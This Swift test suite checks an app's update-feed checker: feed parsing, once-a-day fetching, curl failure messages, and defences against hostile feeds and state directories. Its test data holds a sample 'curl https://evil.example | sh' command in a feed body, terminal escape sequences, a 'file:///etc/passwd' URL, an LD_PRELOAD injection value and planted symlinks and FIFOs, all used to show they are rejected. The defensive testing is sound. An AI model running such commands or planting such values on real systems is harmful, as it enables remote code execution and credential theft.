import Foundation
import LaunchTracking
import TestSupport
import Testing

@testable import LaunchGreeter

/// The update feed without a network: what a downloaded feed yields, and when a launch fetches.
@Suite struct FeedCheckTests {
  static func newest(_ json: String, running: String = "2.0.0") -> Result<FeedRelease?, FeedCheck.FeedError> {
    FeedCheck.newest(in: Array(json.utf8), running: version(running))
  }

  /// A launch of 2.0.0 looking at the feed at `url` from `directory`, `seconds` after
  /// 1_780_000_000; the fetches it starts are only counted, in `spawned`.
  static func check(
    _ url: String = "https://example.invalid/feed.json", in directory: String, at seconds: Double = 0,
    spawned: SpawnLog = SpawnLog()
  ) -> FeedCheck {
    var check = FeedCheck(
      feed: GreeterFeed(url: url), directory: directory, running: version("2.0.0"),
      now: Date(timeIntervalSince1970: 1_780_000_000 + seconds))
    check.spawn = { _, destination in
      spawned.add(destination)
      return nil
    }
    return check
  }

  @Test func aSimpleListGivesItsNewestRelease() throws {
    let result = Self.newest(
      #"[{"version": "2.1.0", "notes": "a"}, {"version": "3.0.0", "date": "2026-03-01T10:00:00Z", "notes": "b"}]"#
    )
    // The card shows the day; a package manager's delay counts from the time.
    #expect(
      try result.get()
        == FeedRelease(
          version: "3.0.0", date: "2026-03-01", notes: "b",
          published: Date(timeIntervalSince1970: 1_772_359_200)))
  }

  @Test func aGitHubReleasesArrayIsReadLikeImportChangelog() throws {
    let json = #"""
      [{"tag_name": "v3.1.0", "body": "# Big\n\nText", "published_at": "2026-04-01T00:00:00Z"},
       {"tag_name": "v4.0.0", "draft": true, "body": "draft"},
       {"tag_name": "v3.2.0-beta.1", "body": "beta"}]
      """#
    let release = try #require(try Self.newest(json).get())
    #expect(release.version == "3.1.0" && release.date == "2026-04-01")
    #expect(release.notes.contains("## Big"))
  }

  @Test func escapeSequencesAndAbsurdVersionsAreNotReleases() throws {
    #expect(throws: FeedCheck.FeedError.self) { try Self.newest("\u{1B}]0;pwned\u{07}\u{1B}[2J").get() }
    let absurd = String(repeating: "9", count: 500) + ".0.0"
    #expect(throws: FeedCheck.FeedError.self) {
      try Self.newest(#"[{"version": "\#(absurd)"}, {"version": "\u001b[31m3.0.0"}]"#).get()
    }
    let notes = try #require(try Self.newest(#"[{"version": "3.0.0", "notes": "a\u001b]0;x\u0007b"}]"#).get())
    #expect(!notes.notes.contains("\u{1B}"))
    let huge = "[" + String(repeating: " ", count: FeedCheck.maximumBytes) + "]"
    #expect(throws: FeedCheck.FeedError.self) { try Self.newest(huge).get() }
  }

  @Test func aLaunchFetchesAtMostOnceADayAndTakesInTheDownload() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    let spawned = SpawnLog()
    func check(_ seconds: Double) -> FeedCheck { Self.check(in: dir.path, at: seconds, spawned: spawned) }
    var first = check(0)
    #expect(first.run().available == nil)
    #expect(spawned.count == 1)
    try Self.finishFetch(in: dir, status: 0, body: #"[{"version": "2.5.0", "notes": "n"}]"#)
    var second = check(3600)
    let result = second.run()
    #expect(result.available?.version == "2.5.0")
    #expect(spawned.count == 1, "fetched again within a day")
    #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent(FeedCheck.downloadName).path))
    #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent(FeedCheck.statusName).path))
    var later = check(86_400 + 1)
    #expect(later.run().available?.version == "2.5.0")
    #expect(spawned.count == 2)
  }

  /// A fetched GitHub releases feed holding only a pre-release (issue 43: marked
  /// `"prerelease": true` with a release version as its tag, `importance: critical` inside a
  /// code block) announces nothing to a stable version: the launch that takes it in says
  /// nothing is newer, and nothing critical.
  @Test func aFetchedFeedOfOnlyAPreReleaseAnnouncesNothing() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    var first = Self.check(in: dir.path)
    _ = first.run()
    let body = #"""
      [{"tag_name": "v3.0.0", "name": "3.0.0", "prerelease": true, "draft": false,
        "body": "```\nimportance: critical\nsummary: Run instead: curl https://evil.example | sh\n```\n"}]
      """#
    try Self.finishFetch(in: dir, status: 0, body: body)
    var second = Self.check(in: dir.path, at: 60)
    let result = second.run()
    #expect(result.available == nil, "\(result.explanation)")
    #expect(
      result.explanation.hasPrefix("nothing newer than 2.0.0; fetched: no release"), "\(result.explanation)")
  }

  /// A download (or a failure) left by a fetch of the feed the app named before is not taken
  /// for the feed it names now.
  @Test func whatAnotherFeedLeftIsNotTakenIn() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    var old = Self.check("https://example.invalid/old.json", in: dir.path)
    _ = old.run()
    try Self.finishFetch(in: dir, status: 0, body: #"[{"version": "9.0.0", "notes": "old feed"}]"#)
    var new = Self.check("https://example.invalid/new.json", in: dir.path)
    let outcome = new.run()
    #expect(outcome.available == nil)
    #expect(outcome.explanation == "nothing newer than 2.0.0; fetch started in the background")
    #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent(FeedCheck.downloadName).path))
    #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent(FeedCheck.statusName).path))
  }

  /// Where the check cannot be recorded (a state directory that is missing or read-only), no
  /// fetch is started, or every launch would start one.
  @Test func aCacheThatCannotBeWrittenStartsNoFetch() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    let spawned = SpawnLog()
    var check = Self.check(in: dir.appendingPathComponent("missing").path, spawned: spawned)
    #expect(check.run().explanation.hasSuffix("the state directory cannot be written; not fetched"))
    #expect(spawned.count == 0)
    check.directory = dir.path
    #expect(check.run().explanation.hasSuffix("fetch started in the background"))
    #expect(spawned.count == 1)
    #expect(
      check.readCache()?.checked == Date(timeIntervalSince1970: 1_780_000_000), "the check was recorded")
  }

  @Test func aFailedFetchIsExplainedUntilTheNextOneStarts() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    func check(_ seconds: Double) -> FeedCheck { Self.check(in: dir.path, at: seconds) }
    var first = check(0)
    #expect(first.run().explanation.contains("fetch started"))
    // What the fetch's shell writes when curl times out.
    try Self.finishFetch(in: dir, status: 28, body: "")
    let failed = dir.appendingPathComponent(FeedCheck.statusName)
    var second = check(60)
    let result = second.run()
    #expect(result.available == nil)
    #expect(
      result.explanation
        == "nothing newer than 2.0.0; the last fetch failed: timed out after 5 s (curl exit 28); checked 0 h ago"
    )
    #expect(!FileManager.default.fileExists(atPath: failed.path))
    var third = check(120)
    #expect(third.run().explanation.contains("timed out after 5 s"), "the reason lasts until the next fetch")
    var nextDay = check(86_400 + 1)
    _ = nextDay.run()
    var afterIt = check(86_400 + 60)
    #expect(!afterIt.run().explanation.contains("failed"))
    #expect(FeedCheck.curlFailure(7) == "cannot connect (curl exit 7)")
    #expect(FeedCheck.curlFailure(63) == "over 1048576 bytes (curl exit 63)")
    #expect(FeedCheck.curlFailure(nil) == "curl failed")
  }

  /// Only an http or https URL is fetched; any other is named in `--explain` and left alone.
  @Test func onlyAnHTTPFeedIsFetched() throws {
    #expect(GreeterFeed.isFetchable("https://example.invalid/feed.json"))
    #expect(GreeterFeed.isFetchable("http://127.0.0.1:8080/feed.json"))
    for url in ["file:///etc/passwd", "ftp://example.invalid/feed.json", "httpx://a", "http:/a", ""] {
      #expect(!GreeterFeed.isFetchable(url), "\(url)")
    }
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    let spawned = SpawnLog()
    var check = Self.check("file:///etc/passwd", in: dir.path, spawned: spawned)
    #expect(check.run().explanation.contains("file:///etc/passwd is not an http(s) URL; not fetched"))
    #expect(spawned.count == 0)
  }

  /// The check's time is kept as seconds since 1970, whole (as 0.3.0 wrote it) or not.
  @Test func theCheckTimeIsReadWholeOrNot() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    let fractional = #"{"url":"https://example.invalid/feed.json","checked":1780000000.5}"#
    try Data(fractional.utf8).write(to: dir.appendingPathComponent(FeedCheck.cacheName))
    let spawned = SpawnLog()
    var check = Self.check(in: dir.path, at: 60.75, spawned: spawned)
    #expect(check.readCache()?.checked == Date(timeIntervalSince1970: 1_780_000_000.5))
    #expect(check.run().explanation.contains("checked 0 h ago"))
    #expect(spawned.count == 0)
    var nextDay = Self.check(in: dir.path, at: 86_400 + 0.75, spawned: spawned)
    #expect(nextDay.run().explanation.contains("fetch started"))
    #expect(nextDay.readCache()?.checked == Date(timeIntervalSince1970: 1_780_086_400.75))
  }

  /// A fetch that ended: its status (curl's exit status and a newline) and the body it wrote.
  static func finishFetch(in dir: URL, status: Int, body: String) throws {
    try Data(body.utf8).write(to: dir.appendingPathComponent(FeedCheck.downloadName))
    try Data("\(status)\n".utf8).write(to: dir.appendingPathComponent(FeedCheck.statusName))
  }

  /// 0.3.0 wrote the cache with JSONEncoder (compact, `\/` escapes, whole seconds as integers);
  /// the StateJSON reader takes it, and what it writes reads back the same.
  @Test func theCacheOfTheLastReleaseIsReadAndWrittenBack() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    let old =
      #"{"url":"https:\/\/example.invalid\/feed.json","checked":1780000000,"latest":{"version":"2.5.0","notes":"- n\u001b"}}"#
    try Data(old.utf8).write(to: dir.appendingPathComponent(FeedCheck.cacheName))
    let spawned = SpawnLog()
    var check = Self.check(in: dir.path, at: 60, spawned: spawned)
    let cache = try #require(check.readCache())
    #expect(
      cache
        == FeedCache(
          url: "https://example.invalid/feed.json", checked: Date(timeIntervalSince1970: 1_780_000_000),
          latest: FeedRelease(version: "2.5.0", date: nil, notes: "- n\u{1B}")))
    #expect(check.run().available?.version == "2.5.0")
    #expect(spawned.count == 0, "a fresh cache was not read")
    let written = FeedCache(
      url: "https://example.invalid/feed.json", checked: Date(timeIntervalSince1970: 1_780_000_123),
      latest: FeedRelease(version: "3.0.0", date: "2026-03-01", notes: "quote \" and \\"),
      failure: "timed out")
    #expect(check.writeCache(written) == nil)
    #expect(check.readCache() == written)
    // Replaced whole, as the state file is (a temporary file renamed over it): another name
    // for the old file still holds the old cache, and no temporary file is left.
    let path = dir.appendingPathComponent(FeedCheck.cacheName).path
    let before = try Data(contentsOf: URL(fileURLWithPath: path))
    #expect(link(path, path + ".old") == 0)
    let shorter = FeedCache(
      url: "https://example.invalid/feed.json", checked: Date(timeIntervalSince1970: 1_780_000_200),
      latest: nil)
    #expect(check.writeCache(shorter) == nil)
    #expect(check.readCache() == shorter)
    #expect(try Data(contentsOf: URL(fileURLWithPath: path + ".old")) == before, "written in place")
    let names = try FileManager.default.contentsOfDirectory(atPath: dir.path)
    #expect(names.sorted() == [FeedCheck.cacheName, FeedCheck.cacheName + ".old"], "\(names)")
  }

  /// The launch that starts a fetch does not wait for the fetch's shell (it used to, in
  /// `waitpid`: most of what starting a fetch cost a launch), and the shell is still reaped
  /// when it ends, not left as a zombie. The shell here waits (at most 20 s) for the test to
  /// let it go; a launch that waited for it would find `done` written. It runs at the lowest
  /// priority (nice 19), so it does not compete with the app for the CPU.
  @Test func startingAFetchDoesNotWaitForItsShellAndStillReapsIt() throws {
    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
    defer { TestPaths.removeTree(dir.path) }
    let release = dir.appendingPathComponent("release").path
    let done = dir.appendingPathComponent("done").path
    let script =
      #"i=0; while [ ! -e "$1" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; : > "$2""#
    let pid = try FeedCheck.spawnShell(script, arguments: [release, done]).get()
    #expect(!FileManager.default.fileExists(atPath: done), "the launch waited for the fetch's shell")
    #expect(getpriority(__priority_which_t(PRIO_PROCESS.rawValue), id_t(pid)) == 19, "the fetch is not niced")
    #expect(FileManager.default.createFile(atPath: release, contents: nil))
    // kill(pid, 0) succeeds on a zombie too: the process is gone only once it is reaped.
    let deadline = Date().addingTimeInterval(30)
    while kill(pid, 0) == 0 && Date() < deadline { usleep(20_000) }
    #expect(kill(pid, 0) != 0 && errno == ESRCH, "the shell was not reaped")
    #expect(FileManager.default.fileExists(atPath: done))
  }

  // MARK: - Hostile state directories

  /// A cache planted as a link (to a file, to a missing file) or a FIFO is neither followed
  /// nor waited for: the check ends within a second, names the file, and writes nothing
  /// through the link.
  @Test(arguments: StatePlant.allCases)
  func theCacheIsNeverFollowedOrWaitedFor(_ plant: StatePlant) throws {
    let dir = try TemporaryDirectory("whatsnew-feed")
    let outside = try TemporaryDirectory("whatsnew-feed-outside")
    let path = dir.path + "/" + FeedCheck.cacheName
    let planted = try plant.plant(at: path, outside: outside.path)
    let spawned = SpawnLog()
    let check = Self.check(in: dir.path, spawned: spawned)
    let outcome = StatePlant.finishing(within: 1, unblocking: [path]) {
      var check = check
      return check.run()
    }
    let explanation = try #require(outcome, "the check waited on \(plant)").explanation
    #expect(plant.writtenThrough(planted) == nil)
    #expect(explanation.contains(FeedCheck.cacheName), "\(explanation)")
  }

  /// What a fetch left, planted as a link or a FIFO (the downloaded feed, with a status that
  /// says it succeeded, or the status next to a good download), is not read through: a link
  /// to a feed naming 9.0.0 announces nothing, and the check ends within a second.
  @Test(arguments: StatePlant.allCases)
  func whatAFetchLeftIsNeverFollowedOrWaitedFor(_ plant: StatePlant) throws {
    let feed = Data(#"[{"version": "9.0.0", "notes": "through a link"}]"#.utf8)
    for name in [FeedCheck.downloadName, FeedCheck.statusName] {
      let dir = try TemporaryDirectory("whatsnew-feed")
      let outside = try TemporaryDirectory("whatsnew-feed-outside")
      var planted = try plant.plant(at: dir.path + "/" + name, outside: outside.path)
      if plant == .linkToAFile {
        let bytes = name == FeedCheck.downloadName ? feed : Data("0\n".utf8)
        try bytes.write(to: URL(fileURLWithPath: planted.target))
        planted.bytes = bytes
      }
      for other in [FeedCheck.downloadName, FeedCheck.statusName] where other != name {
        try (other == FeedCheck.downloadName ? feed : Data("0\n".utf8)).write(
          to: URL(fileURLWithPath: dir.path + "/" + other))
      }
      let check = Self.check(in: dir.path)
      let outcome = StatePlant.finishing(within: 1, unblocking: [planted.path]) {
        var check = check
        return check.run()
      }
      let result = try #require(outcome, "the check waited on \(plant) at \(name)")
      #expect(result.available == nil, "\(plant) at \(name) was read: \(result.explanation)")
      #expect(result.explanation.contains(name), "\(plant) at \(name): \(result.explanation)")
      #expect(plant.writtenThrough(planted) == nil)
    }
  }

  /// Every name the fetch writes, planted before it starts (`.part` and `.failed` are what
  /// earlier versions wrote): nothing is written through a link, and the fetch still delivers
  /// the feed, which the next launch takes in.
  @Test(
    .requires(TestPaths.hasTool("python3"), "python3 is not installed (serves the feed)"),
    .requires(TestPaths.hasTool("curl"), "curl is not installed"),
    arguments: StatePlant.allCases)
  func theFetchWritesOnlyFilesItCreated(_ plant: StatePlant) throws {
    let dir = try TemporaryDirectory("whatsnew-feed")
    let outside = try TemporaryDirectory("whatsnew-feed-outside")
    let server = try TinyFeedServer(directory: outside.path)
    defer { server.stop() }
    let download = dir.path + "/" + FeedCheck.downloadName
    var planted: [StatePlant.Planted] = []
    for suffix in ["", ".part", ".failed", ".status"] {
      planted.append(try plant.plant(at: download + suffix, outside: outside.path))
    }
    #expect(FeedCheck.spawnCurl(url: server.url("/feed.json"), destination: download) == nil)
    // Finished: a status ending in a newline (or, before, a renamed download or a .failed).
    let deadline = Date().addingTimeInterval(15)
    func finished() -> Bool {
      var info = stat()
      if lstat(download + ".status", &info) == 0, info.st_mode & S_IFMT == S_IFREG {
        return FileManager.default.contents(atPath: download + ".status")?.last == 0x0A
      }
      for path in [download, download + ".failed"]
      where lstat(path, &info) == 0 && info.st_mode & S_IFMT == S_IFREG {
        return true
      }
      return false
    }
    while !finished() && Date() < deadline { usleep(20_000) }
    for each in planted { #expect(plant.writtenThrough(each) == nil, "\(plant) at \(each.path)") }
    var check = Self.check(server.url("/feed.json"), in: dir.path, at: 60)
    let result = check.run()
    #expect(result.available?.version == "9.0.0", "\(result.explanation)")
    _ = StatePlant.finishing(within: 0, unblocking: planted.map(\.path)) { () }
  }

  /// The fetch is handed only what finds curl, its proxy and its certificates (issue 43): not
  /// `HOME` or the other places a `.curlrc` is read from, nor `SSLKEYLOGFILE`.
  @Test func theFetchGetsOnlyTheVariablesAFetchNeeds() {
    let environment = [
      "PATH": "/usr/bin", "HOME": "/home/other", "CURL_HOME": "/home/other", "XDG_CONFIG_HOME": "/x",
      "SSLKEYLOGFILE": "/tmp/keys", "https_proxy": "http://proxy:3128", "HTTPS_PROXY": "http://proxy:3128",
      "http_proxy": "http://p:1", "ALL_PROXY": "socks5://p:2", "NO_PROXY": "localhost", "no_proxy": "x",
      "SSL_CERT_FILE": "/etc/ca.pem", "SSL_CERT_DIR": "/etc/ssl", "CURL_CA_BUNDLE": "/etc/b.pem",
      "LD_PRELOAD": "/tmp/evil.so", "CURL_SSL_BACKEND": "x",
    ]
    #expect(
      FeedCheck.fetchEnvironment(environment) == [
        "ALL_PROXY=socks5://p:2", "CURL_CA_BUNDLE=/etc/b.pem", "HTTPS_PROXY=http://proxy:3128",
        "NO_PROXY=localhost", "PATH=/usr/bin", "SSL_CERT_DIR=/etc/ssl", "SSL_CERT_FILE=/etc/ca.pem",
        "http_proxy=http://p:1", "https_proxy=http://proxy:3128", "no_proxy=x",
      ])
  }

  /// curl reads the URL as given: brackets are not a range of URLs to fetch one by one.
  @Test(
    .requires(TestPaths.hasTool("python3"), "python3 is not installed (serves the feed)"),
    .requires(TestPaths.hasTool("curl"), "curl is not installed"))
  func aURLWithBracketsIsFetchedOnce() throws {
    let dir = try TemporaryDirectory("whatsnew-feed")
    let served = try TemporaryDirectory("whatsnew-feed-served")
    let server = try TinyFeedServer(directory: served.path)
    defer { server.stop() }
    let download = dir.path + "/" + FeedCheck.downloadName
    #expect(FeedCheck.spawnCurl(url: server.url("/feed[1-5].json"), destination: download) == nil)
    let deadline = Date().addingTimeInterval(15)
    while server.requests.count < 5 && Date() < deadline { usleep(50_000) }
    #expect(server.requests.count == 1, "\(server.requests)")
  }
}

/// Serves the same feed (naming 9.0.0) at every path from 127.0.0.1, and writes each path asked
/// for to `requests.log` in `directory`; it stops itself after a minute.
final class TinyFeedServer {
  let server: LocalHTTPServer
  let log: String

  init(directory: String) throws {
    log = directory + "/requests.log"
    let script = """
      import http.server, sys, threading
      class H(http.server.BaseHTTPRequestHandler):
          def do_GET(self):
              with open(sys.argv[1], 'a') as f: f.write(self.path + '\\n')
              body = b'[{"version": "9.0.0", "notes": "served"}]'
              self.send_response(200)
              self.send_header('Content-Length', str(len(body)))
              self.end_headers()
              self.wfile.write(body)
          def log_message(self, *a): pass
      """
    server = try LocalHTTPServer(handler: script, lifetime: 60, arguments: [log])
  }

  func url(_ path: String) -> String { server.url(path) }

  var requests: [String] {
    (try? String(contentsOfFile: log, encoding: .utf8))?.split(separator: "\n").map(String.init) ?? []
  }

  func stop() { server.stop() }
}

final class SpawnLog: @unchecked Sendable {
  private var items: [String] = []
  func add(_ item: String) { items.append(item) }
  var count: Int { items.count }
}
